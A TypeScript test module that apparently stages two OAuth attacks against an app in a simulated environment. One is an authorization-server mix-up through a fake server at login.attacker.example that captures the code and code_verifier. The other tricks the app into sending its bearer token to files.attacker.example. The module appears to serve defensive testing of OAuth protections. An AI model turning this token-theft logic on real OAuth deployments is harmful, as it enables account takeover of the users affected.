/** Attacks on an honest app by a server that it should not trust. */
import type { Backstage } from '../actor.ts'
import { call, post } from '../by-hand.ts'
import { nativeApp } from '../clients.ts'
import type { Attack } from '../play.ts'
import { APP, hostApp } from './hosted-app.ts'
import { lootIf, tokensOf } from './trying.ts'

const EVIL = 'https://login.attacker.example'

/** What the attacker's server heard at its token endpoint. */
type Heard = Record<string, string>

/** It looks like an authorization server, and sends every browser on to the honest one, with what the app had asked for. */
function hostEvilServer({ host, places }: Backstage, heard: Heard): void {
  const metadata = {
    ...{ issuer: EVIL, authorization_endpoint: `${EVIL}/oauth2/authorize`, token_endpoint: `${EVIL}/oauth2/token` },
    ...{
      jwks_uri: `${EVIL}/oauth2/jwks`,
      response_types_supported: ['code'],
      code_challenge_methods_supported: ['S256'],
    },
  }
  host(EVIL, async (request) => {
    const { pathname, search } = new URL(request.url)
    if (pathname === '/oauth2/authorize')
      return new Response(null, { status: 303, headers: { location: `${places.auth}/oauth2/authorize${search}` } })
    if (pathname !== '/oauth2/token') return Response.json(metadata)
    Object.assign(heard, Object.fromEntries(new URLSearchParams(await request.text())))
    return Response.json({ error: 'invalid_grant' }, { status: 400 })
  })
}

/** The app believes that it talks to one server, the person signs in at another, and the code goes to the first (RFC 9700 §4.4). */
export const mixUp: Attack = {
  id: 'mix-up',
  off: 'authorization-response.issuer',
  async play(stage) {
    const heard: Heard = {}
    hostEvilServer(stage, heard)
    hostApp(stage)
    const victim = stage.person('alice')
    const { left: evil } = await victim.visit(`${APP}/login?issuer=${EVIL}`)
    stage.aside('sent-on-by-attacker', 'attacker-server', 'browser')
    const { left: honest } = await victim.visit(evil ?? EVIL)
    await victim.visit(await victim.authorize(honest ?? EVIL))
    const { code, code_verifier } = heard
    if (code === undefined || code_verifier === undefined) return undefined
    const { clientId: client_id, redirectUri: redirect_uri } = nativeApp
    const form = { grant_type: 'authorization_code', client_id, redirect_uri, code, code_verifier }
    const answer = await post(stage.actor('attacker'), `${stage.places.auth}/oauth2/token`, form)
    return lootIf(tokensOf(answer) !== undefined, 'tokens')
  },
}

const FILES = 'https://files.attacker.example'

/** The app is given the address of a file, and asks for it as it asks its own API: with the token (RFC 9700 §4.9.1). */
export const tokenToAttacker: Attack = {
  id: 'token-to-attacker',
  off: 'resource-request.withinResource',
  async play(stage) {
    const stolen: string[] = []
    stage.host(FILES, async ({ headers }) => {
      stolen.push(headers.get('authorization')?.replace(/^Bearer /, '') ?? '')
      return new Response(null, { status: 404 })
    })
    hostApp(stage)
    const victim = stage.person('alice')
    const { left } = await victim.visit(`${APP}/login?issuer=${stage.places.auth}`)
    await victim.visit(await victim.authorize(left ?? APP))
    stage.aside('link-in-mail', 'attacker', 'browser')
    await victim.visit(`${APP}/fetch?${new URLSearchParams({ address: `${FILES}/invoice.pdf` })}`)
    const [token] = stolen
    if (token === undefined) return undefined
    const { status } = await call(stage.actor('attacker'), `${stage.places.resource}/protected`, token)
    return lootIf(status === 200, 'access-token')
  },
}
